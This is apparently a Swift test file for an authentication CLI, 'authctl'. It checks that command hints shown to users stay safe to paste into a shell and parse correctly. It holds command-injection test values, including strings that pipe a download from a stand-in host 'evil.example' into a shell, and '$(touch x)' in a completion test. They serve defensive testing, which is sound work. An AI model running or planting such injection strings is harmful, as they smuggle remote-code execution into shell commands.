import ArgumentParser
import Foundation
import Testing

@testable import AuthCore
@testable import authctl

/// Users paste the hints' commands into shells.
@Suite struct `Hints` {
    static let plain = "oidc.work"
    static let hostile = [
        "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
        "\u{1B}[31mred", "--config-dir", "-x", "", "=ls", "~root", "*", "it'\u{301};curl evil.example;'\u{301}", "a\"b",
        "a\\b", "!x", "{a,b}", "é", "<a>&b", "--help",
    ]

    /// Every hint, with and without a provider in the error context.
    private func hints(_ v: String) throws -> [Hint] {
        let named = ErrorContext("failed", for: .signIn, provider: v)
        let bare = ErrorContext("failed", for: .addProvider)
        let request = ErrorContext("failed", for: .request, provider: v)
        let linking = ErrorContext("failed", for: .link, provider: v)
        let other = ErrorContext("failed", provider: v, resource: "https://api.example.com")
        let unnamed = ErrorContext("failed", for: .bridge)
        var registered = named
        registered.registeredAt = "https://id.example.com"
        return try AllErrors.all(with: v).flatMap { [registered] error in
            [named, bare, request, linking, other, unnamed, registered].compactMap { Failure(error, while: $0).hint }
        }
    }

    private func commands(_ hint: Hint) -> [ShellCommand] {
        hint.parts.compactMap { part in if case .command(let command) = part { command } else { nil } }
    }

    /// The words of each command as a real shell passes them. One shell runs all commands.
    private func words(_ commands: [ShellCommand]) async throws -> [[String]] {
        let script = """
            words() { printf '%s\\0' "$#" "$@"; }
            curl() { printf '%s\\0' EVIL; }
            set -f
            \(commands.map { "words \($0.text)" }.joined(separator: "\n"))
            """
        let file = FileManager.default.temporaryDirectory.appending(path: "hints-\(UUID().uuidString)")
        try Data(script.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let result = try await Program(command: ["/bin/sh", file.path], environment: ["PATH": "/usr/bin:/bin"]).run()
        #expect(result.isSuccess && !result.wasKilled, "\(String(decoding: result.errors, as: UTF8.self))")
        var rest = result.output.split(separator: 0, omittingEmptySubsequences: false)
            .map { String(decoding: $0, as: UTF8.self) }[...]
        var all: [[String]] = []
        while rest.count > 1, let count = rest.popFirst().flatMap({ Int($0) }) {
            all.append(Array(rest.prefix(count)))
            rest = rest.dropFirst(count)
        }
        #expect(rest == [""], "something else was run: \(rest)")
        return all
    }

    /// Parses first without the root command, because that is faster.
    private func parse(_ arguments: [String]) throws -> any ParsableCommand {
        try EntryPoint.named(in: arguments) ?? Authctl.parseAsRoot(arguments)
    }

    private func parserError(_ words: [String]) -> String? {
        do {
            _ = try parse(Array(words.dropFirst()))
            return nil
        } catch {
            return Authctl.exitCode(for: error).isSuccess ? nil : Authctl.message(for: error)
        }
    }

    /// Values that a parser could mistake for an option.
    private static let optionLike: Set = [plain, "--config-dir", "-x", "", "--help", "=ls", "a b", "a\nb"]

    @Test(arguments: [plain] + hostile)
    func `every command in a hint can be pasted into a shell, even with a hostile value`(value: String) async throws {
        // Hints without the value are tested once.
        var known = value == Self.plain ? [] : Set(try hints("another").flatMap(commands).map(\.text))
        let all = try hints(value).flatMap(commands).filter { known.insert($0.text).inserted }
        let words = try await words(all)
        try #require(words.count == all.count && all.count > 25, "\(all.count)")
        for (command, words) in zip(all, words) {
            let isAuthctl = words.first == "authctl"
            let others = ["cp", "mv", "chmod", "sudo", "unset", "export", "apt-get", "ip", "ulimit", "openssl"]
            #expect(isAuthctl || others.contains(words[0]), "\(command.text)")
            guard isAuthctl, Self.optionLike.contains(value) else { continue }
            let fault = parserError(words)
            #expect(fault == nil, "\(command.text): \(fault ?? "")")
        }
    }

    @Test(arguments: hostile) func `a hostile value in a hint is one shell word`(value: String) async throws {
        let task = ErrorContext("failed", provider: value)
        let errors: [any Error] = [
            AccountConflict.emailAlreadyInUse(value),
            StoreError.tooOpen(path: value, mode: 0, expected: 0o600), SignInError.startedAs(.link, id: value),
        ]
        let commands = errors.compactMap { Failure($0, while: task).hint }.flatMap(commands)
        #expect(commands.count == errors.count)
        for (command, words) in zip(commands, try await words(commands)) {
            let isThere = words.contains { $0 == value || ($0.hasPrefix("--") && $0.hasSuffix("=" + value)) }
            #expect(isThere, "\(command.text) gives \(words)")
        }
    }

    @Test func `the hint for a configuration directory that cannot be made names AUTHCTL_CONFIG_DIR`() {
        let error = StoreError.system(operation: "make", path: "/.config", code: EACCES)
        let context = ErrorContext()
        #expect(Failure(error, while: context).hint?.text == "set AUTHCTL_CONFIG_DIR to a directory that you own")
        let file = ServeFileError(file: "the audit file", error: error)
        #expect(Failure(file, while: context).hint == nil)
    }

    @Test(arguments: hostile) func `a hint does not repeat an invalid provider ID`(value: String) throws {
        let task = ErrorContext("failed")
        let hint = try #require(Failure(NotSignedIn.noSession(provider: value), while: task).hint)
        #expect(commands(hint).map(\.text) == ["authctl signin"])
    }

    private func parsed(_ words: some Sequence<String>) throws -> any Command {
        guard let command = try parse(Array(words)) as? any Command else {
            throw CommandError(.usage, "not a command of authctl")
        }
        return command
    }

    /// Commands that do not use an account.
    private static let withoutAccount: Set = [
        "use", "accounts list", "accounts lookup", "accounts switch", "accounts rule", "providers",
        "profile", "vault", "setup", "doctor", "pending", "serve", "signin",
    ]

    @Test func `the commands in hints repeat the profile, account and configuration directory`() throws {
        let (profile, directory) = ("staging", "/tmp/elsewhere")
        let given = RepeatedOptions(
            options: ["--profile": profile, "--account": "bob@example.com", "--config-dir": directory],
            isAccepted: CommandPlace.accepts)
        // Each hint once: most are those of several errors, and it takes long to find what a command accepts.
        var (seen, known, tried) = (Set<String>(), Set<String>(), 0)
        let different = try hints(Self.plain).filter { seen.insert("\($0.parts)").inserted }
        for command in different.map({ $0.repeating(given) }).flatMap(commands)
        where known.insert(command.text).inserted {
            guard let words = Shell.split(command.text), words.first == "authctl", !words.contains("--help") else {
                #expect(!command.text.contains("staging"), "\(command.text)")
                continue
            }
            tried += 1
            let options = try parsed(words.dropFirst()).options
            #expect(options.configDir == directory, "\(command.text)")
            let place = words.dropFirst().prefix(2).joined(separator: " ")
            let hasProfile = !["profile list", "profile use"].contains(place)
            #expect(options.profile == (hasProfile ? profile : nil), "\(command.text)")
            guard !Self.withoutAccount.contains(place), !Self.withoutAccount.contains(words[1]),
                !words.contains("--retry"), !words.contains("--repository")
            else {
                continue
            }
            #expect(options.account != nil, "\(command.text)")
        }
        #expect(tried > 40, "\(tried)")
    }

    @Test func `no hint after a failed sign-in is that sign-in again, and none follows a cancellation`() throws {
        for command in ["signin", "link", "reauth"] {
            let context = try parsed([command, "--provider", Self.plain]).errorContext
            for error in try AllErrors.all(with: Self.plain) where error is OAuthError || error is SignInError {
                // A run without a user replaces this one.
                if case SignInError.interactionRequired = error { continue }
                let hint = Failure(error, while: context).hint?.text
                #expect(hint != "authctl \(command) --provider \(Self.plain)", "\(error)")
            }
            #expect(Failure(CancellationError(), while: context).hint == nil)
        }
    }

    @Test(
        arguments: [
            (
                "authctl signin oidc.work", "authctl signin --ci auto",
                "authctl signin oidc.work --begin"
            ), (
                "authctl signin github.com", "authctl signin github.com --with-token",
                "authctl signin github.com --with-token"
            ),
            (
                "authctl signin --resource https://a.example", "authctl signin --ci auto --resource https://a.example",
                nil
            ),
            ("authctl setup oidc.work", "authctl providers add --help", "authctl providers add --help"),
            ("authctl reauth", nil, nil), ("authctl signin --complete a1", nil, nil),
            ("authctl signin oidc.work --flow client-credentials", nil, nil),
            ("authctl signin github.com --with-token", nil, nil), ("authctl token", nil, nil),
        ] as [(ShellCommand, String?, String?)])
    func `no hint is a dialogue in a CI job or with --no-input`(command: ShellCommand, job: String?, other: String?) {
        let hint = Hint.run(command)
        #expect(hint.forUser(RepeatedOptions(isUnattended: true, isJob: true)).text == job ?? command.text)
        #expect(hint.forUser(RepeatedOptions(isUnattended: true)).text == other ?? command.text)
        #expect(hint.forUser(RepeatedOptions()) == hint)
    }

    /// The words in capitals, for values that only the user knows.
    private static let placeholders: Set = ["FILE", "URL", "ID", "KEY", "ADDRESS", "HOST"]

    @Test func `hints have no command in prose, only known placeholders, and punctuation after each command`() throws {
        let names = Set(CommandPlace.all.map { $0.path[0] })
        for hint in try hints(Self.plain) {
            #expect(!hint.text.contains("…"), "\(hint.text)")
            for (index, part) in hint.parts.enumerated() {
                guard case .prose(let text) = part else { continue }
                for match in text.matches(of: /\bauthctl ([a-z-]+)/) {
                    #expect(!names.contains(String(match.1)), "a command that is not tested: \(hint.text)")
                }
                guard index > 0, case .command = hint.parts[index - 1] else { continue }
                #expect([",", ";", " && "].contains { text.hasPrefix($0) }, "\(hint.text)")
            }
            for command in commands(hint) {
                for word in command.text.split(separator: " ") where word.wholeMatch(of: /[A-Z]{2,}/) != nil {
                    #expect(Self.placeholders.contains(String(word)) || word == "GET", "\(command.text)")
                }
            }
        }
    }

    /// The sources in a folder of authctl.
    private func sources(_ folder: String = "/Messages") throws -> String {
        let root =
            URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent().path + "/Sources/authctl\(folder)/"
        return try FileManager.default.subpathsOfDirectory(atPath: root).filter { $0.hasSuffix(".swift") }
            .map { String(decoding: try Data(contentsOf: URL(filePath: root + $0)), as: UTF8.self) }
            .joined(separator: "\n")
    }

    @Test func `the parser accepts each command of a hint in the sources of authctl`() throws {
        var found = 0
        for match in try sources("").matches(of: /run(?:: |\()"(authctl (?:[^"\\]|\\\([^"]*?\))*)"/) {
            found += 1
            // An interpolation is a name, a URL, a number, a vault or a tool.
            let values = ["oidc.a", "https://a.example", "5", "file", "codex"]
            let faults = values.compactMap { value in
                parserError(Shell.split(String(match.1.replacing(/\\\([^"]*?\)+/, with: value))) ?? [])
            }
            #expect(faults.count < values.count, "\(match.1): \(faults.first ?? "")")
        }
        #expect(found > 110, "\(found)")
    }

    @Test func `these tests cover every error case and every command in their hints`() throws {
        let tried = try AllErrors.all(with: Self.plain).map { "\($0)" }.joined(separator: "\n")
        var cases = 0
        for part in try sources().split(separator: "\nextension ") {
            guard let head = part.split(separator: "\n").first, head.contains(": UserFacingError {") else { continue }
            // The text of `explanation`.
            guard let start = part.firstRange(of: "func explanation"),
                let end = part[start.upperBound...].firstRange(of: "\n")
            else { continue }
            let isShort = part[..<end.lowerBound].hasSuffix("}")
            let body = part[end.upperBound...].firstRange(of: "\n    }")?.lowerBound ?? part.endIndex
            for match in part[..<(isShort ? end.lowerBound : body)].matches(of: /case \.([a-z][A-Za-z]+)/) {
                cases += 1
                let isTested = tried.contains(match.1)
                #expect(isTested, "\(head) .\(match.1)")
            }
        }
        #expect(cases > 130, "\(cases)")
        let all = try hints(Self.plain)
        let job = RepeatedOptions(isUnattended: true, isJob: true)
        let commands = (all + all.map { $0.forUser(job) }).flatMap(commands).map(\.text)
        var found = 0
        for match in try sources().matches(of: /"(authctl (?:[^"\\]|\\\([^"]*?\))*)"/) {
            // An interpolation matches any text.
            let pieces = match.1.split(separator: /\\\([^"]*?\)+/).map(String.init)
            found += 1
            let isTested = commands.contains { command in
                var rest = command[...]
                for piece in pieces {
                    guard let range = rest.firstRange(of: piece) else { return false }
                    rest = rest[range.upperBound...]
                }
                return command.hasPrefix(pieces[0])
            }
            #expect(isTested, "\(match.1)")
        }
        #expect(found > 60, "\(found)")
    }
}

@Suite struct `Values in hints` {
    @Test func `a plain value in a hint is not quoted`() {
        let hint: ShellCommand = "authctl signin \("oidc.work") --email \("ada+x@example.com") \(5)"
        #expect(hint.text == "authctl signin oidc.work --email ada+x@example.com 5")
        let path: ShellCommand = "chmod 600 \("/home/ada/.config/authctl/key")"
        #expect(path.text == "chmod 600 /home/ada/.config/authctl/key")
    }

    @Test func `a value that starts with a dash is not parsed as an option`() {
        let option: ShellCommand = "authctl signin \("--yes")"
        #expect(option.text == "authctl signin -- --yes")
        let argument: ShellCommand = "authctl accounts lookup \("--yes")"
        #expect(argument.text == "authctl accounts lookup -- --yes")
        let between: ShellCommand = "authctl providers set \("-x") --api-host \("-y")"
        #expect(between.text == "authctl providers set --api-host=-y -- -x")
        let longer: ShellCommand = "\(between) --json"
        #expect(longer.text == "authctl providers set --api-host=-y --json -- -x")
        let several: ShellCommand = "mv \("-x") \("-x.old")"
        #expect(several.text == "mv -- -x -x.old")
    }
}

@Suite struct `Terminal output` {
    @Test func `shown data keeps line feeds and tabs, and escapes control characters`() {
        let bytes = Array("a\tb\r\nc\u{1B}[31m\u{202E}\n".utf8) + [0x9B, 0x41, 10]
        let shown = Output.shown(bytes)
        #expect(shown == "a\tb\nc\\u{1b}[31m\\u{202e}\n\u{FFFD}A\n")
    }

    @Test func `completion offers only names without shell syntax or hidden characters`() {
        let names = [
            "ada@example.com", "oidc.work", "$(touch x)@a.example", "`x`@a", "a b", "-x", "x;y@a", "a\nb",
            "é@a.example",
            "\u{202E}a", "a'b", "a\\b",
        ]
        #expect(Completions.offered(names) == ["ada@example.com", "oidc.work", "é@a.example"])
    }
}
